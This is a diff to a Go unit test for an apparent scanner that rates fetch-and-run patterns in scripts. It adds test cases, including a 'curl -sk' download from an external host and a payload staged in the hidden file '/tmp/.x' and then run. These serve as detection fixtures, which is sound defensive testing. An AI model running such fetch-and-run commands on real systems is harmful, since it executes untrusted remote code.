@@ -25,6 +25,8 @@ func TestJudge(t *testing.T) {
 	}{
 		{"a machine without a name", []scan.Fact{download, run}, []string{"fetch-run critical"}},
 		{"a named host", []scan.Fact{install, run}, []string{"fetch-run medium"}},
+		{"without a check of the host", []scan.Fact{change(install, func(f *scan.Fact) { f.From = []int{2} }), run, {Kind: "runs", Object: "program", Name: "curl", Detail: "curl -sk https://get.example.net/x", Place: script}}, []string{"fetch-run high"}},
+		{"a hidden file", []scan.Fact{install, {Kind: "writes", Object: "file", Name: "/tmp/.x", Place: script, From: []int{0}}, change(run, func(f *scan.Fact) { f.From = []int{1} })}, []string{"fetch-run high"}},
 		{"decoded on the way", []scan.Fact{install, decode, change(run, func(f *scan.Fact) { f.From = []int{1} })}, []string{"fetch-run critical", "decode-run high"}},
 		{"decoded elsewhere", []scan.Fact{install, change(decode, func(f *scan.Fact) { f.From = nil }), run}, []string{"fetch-run medium"}},
 		{"a guess", []scan.Fact{download, change(run, func(f *scan.Fact) { f.Maybe = true })}, []string{"fetch-run medium"}},
